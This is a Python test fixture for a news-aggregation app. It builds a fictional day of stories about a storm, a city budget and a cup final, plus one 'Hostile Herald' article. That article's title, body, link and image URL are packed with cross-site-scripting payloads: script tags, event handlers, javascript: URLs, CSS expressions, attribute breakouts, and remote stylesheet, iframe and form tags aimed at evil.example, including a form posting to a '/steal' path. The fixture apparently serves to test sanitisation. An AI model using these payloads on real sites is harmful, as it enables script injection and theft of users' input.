"""A day of mixed, messy news for one edition: several stories told by several sources."""

from __future__ import annotations

import datetime as dt

from headlines.core.models import Edition
from headlines.intake.models import Article
from tests.stories import factories as sf

DAY = dt.date(2026, 11, 25)
NOON = dt.datetime(2026, 11, 25, 12, 0, tzinfo=dt.UTC)

# Never fetched by the tests: the browser tests refuse every request to it.
STORM_IMAGE = "https://img.example/storm-bella.jpg"

HOSTILE_TITLE = (
    '<script>alert("t")</script>Bridge <img src=x onerror=alert(1)>reopens '
    '<a href="javascript:alert(2)">after repairs</a> | Hostile Herald'
)
HOSTILE_TEXT = (
    '<link rel="stylesheet" href="https://evil.example/remote.css">'
    '<iframe src="https://evil.example/frame"></iframe><svg onload="alert(8)"></svg>'
    '<form action="https://evil.example/steal"><input name=p></form>'
    "<style>@import url(https://evil.example/x.css); "
    "body{background:url(javascript:alert(3))}</style>"
    '<p style="width: expression(alert(4))" onclick="alert(5)">The river bridge reopened to '
    "traffic on Wednesday after eight months of repairs, the city said.</p> "
    "<p>Engineers replaced the cables and the deck, and drivers returned at dawn.</p>"
)

STORIES = {
    "storm": [
        (
            "Storm Bella floods coastal towns as thousands flee | Coast Daily",
            "Storm Bella flooded coastal towns on Wednesday, forcing thousands of residents "
            "to flee "
            "their homes as rivers burst their banks. Emergency crews rescued people from rooftops "
            "in three towns. Sign up for our newsletter to get alerts.",
        ),
        (
            "Thousands flee as Storm Bella floods the coast - National Wire",
            "Thousands of residents fled their homes on Wednesday after Storm Bella flooded "
            "coastal "
            "towns and rivers burst their banks. Crews rescued people from rooftops, "
            "officials said.",
        ),
        (
            "",
            "COASTVILLE (Wire) — Storm Bella brought floods to coastal towns and thousands of "
            "residents fled their homes, rescuers said. Rivers burst their banks overnight.",
        ),
    ],
    "budget": [
        (
            "Council approves budget with cuts to libraries - Riverside Gazette",
            "The city council approved its budget on Tuesday night, cutting library hours and "
            "raising parking fees to close a funding gap. The vote was seven to four.",
        ),
        (
            "City budget passes, libraries face cuts | Metro Times",
            "Libraries will open fewer hours after the city council approved a budget with cuts on "
            "Tuesday. Parking fees will rise to close the funding gap, councillors said.",
        ),
    ],
    "final": [
        (
            "United win the cup final on penalties | Sports Desk",
            "United won the cup final on penalties on Wednesday after a goalless draw, with their "
            "keeper saving two spot kicks. Fans celebrated late into the night.",
        ),
    ],
}


def messy_day(edition: Edition, *, hostile: bool = True) -> list[Article]:
    sources = {
        name: sf.source(name=name, edition=edition, weight=w)
        for name, w in [
            ("Coast Daily", 1.0),
            ("National Wire", 1.5),
            ("Riverside Gazette", 1.0),
            ("Metro Times", 1.0),
            ("Sports Desk", 0.8),
            ("Hostile Herald", 1.0),
        ]
    }
    names = list(sources)
    made = []
    for k, (key, versions) in enumerate(STORIES.items()):
        for i, (title, text) in enumerate(versions):
            source = sources[names[(k * 2 + i) % 5]] if key != "storm" else sources[names[i % 2]]
            made.append(
                sf.article(
                    source=source,
                    edition=edition,
                    title=title,
                    text=text,
                    published_at=NOON - dt.timedelta(hours=k + i),
                    image_url=STORM_IMAGE if (key, i) == ("storm", 1) else "",
                )
            )
    if hostile:
        made.append(
            sf.article(
                source=sources["Hostile Herald"],
                edition=edition,
                title=HOSTILE_TITLE,
                text=HOSTILE_TEXT,
                published_at=NOON - dt.timedelta(hours=1),
                url="javascript:alert(6)",
                image_url='https://img.example/bridge.jpg" onerror="alert(7)',
            )
        )
    return made
